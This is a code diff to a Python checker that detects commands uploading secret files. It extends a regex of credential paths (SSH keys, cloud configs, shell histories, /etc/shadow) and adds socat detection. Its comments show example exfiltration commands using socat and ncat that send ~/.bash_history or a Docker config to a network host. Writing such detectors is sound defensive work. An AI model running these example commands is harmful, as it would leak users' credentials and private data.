@@ -23,12 +23,12 @@ from ..cmdline.commands import FETCHERS, Cmd
 # ---- secrets and the network ------------------------------------------------------------------
 
 SECRET_PATH = re.compile(
-    r"(?:^|/|~)(?:\.ssh/(?:id_[\w-]+(?<!\.pub)|[\w.-]*_(?:rsa|ed25519|ecdsa|dsa))$|\.ssh/[\w.-]*key(?<!\.pub)$"
+    r"(?:^|/|~)(?:\.ssh/(?:id_[\w*?\[\]-]+(?<!\.pub)|[\w.-]*_(?:rsa|ed25519|ecdsa|dsa))$|\.ssh/[\w.-]*key(?<!\.pub)$"
     # a whole folder of secrets, or every file in it
     r"|\.(?:ssh|aws|kube|docker)/?\*?$"
     r"|\.gnupg(?:/|$)|\.aws/credentials$|\.aws/config$|\.kube/config$|\.netrc$|\.pgpass$|\.my\.cnf$"
     r"|\.docker/config\.json$|\.git-credentials$|\.config/gh/hosts\.yml$|\.vault-token$|\.npmrc$|\.pypirc$"
-    r"|(?:^|/)etc/(?:shadow|gshadow|sudoers)$|\.(?:bash|zsh|fish|sh)_history$|\.local/share/fish/fish_history$"
+    r"|(?:^|/)etc/(?:shadow|gshadow|sudoers)$|\.(?:bash|zsh|fish|sh|psql|mysql)_history$|\.z?histfile$|\.local/share/fish/fish_history$"
     r"|\.password-store(?:/|$)|\.config/rclone/rclone\.conf$|\.azure(?:/|$)|\.config/gcloud(?:/|$)"
     r"|\.env$|/proc/[\w]+/environ$)"
 )
@@ -133,6 +133,11 @@ def uploaded_secret(cmd: Cmd) -> str | None:
             return s
     if cmd.name in ("scp", "rsync", "sftp"):
         return next((s for o in cmd.operands[:-1] if (s := secret_in(o))), None)
+    if cmd.name == "socat":  # `socat -u FILE:~/.bash_history TCP:host:port`: one address reads, one sends
+        files = [a.split(":", 1)[1].split(",")[0] for a in cmd.operands if re.match(r"(?i)(?:g?open|file|create):", a)]
+        nets = [a for a in cmd.operands if re.match(r"(?i)(?:tcp|udp|sctp|openssl|ssl|socks\d?a?|proxy)[46]?[-:]", a)]
+        if nets and (s := next((s for f in files if (s := secret_in(f))), None)):
+            return s
     # `ncat host port < ~/.docker/config.json`: the secret is its input
     fed = next((r.target for r in cmd.redirects if r.op == "<" and secret_in(r.target)), None)
     if fed is None and any(r.op != "<" and r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in cmd.redirects):
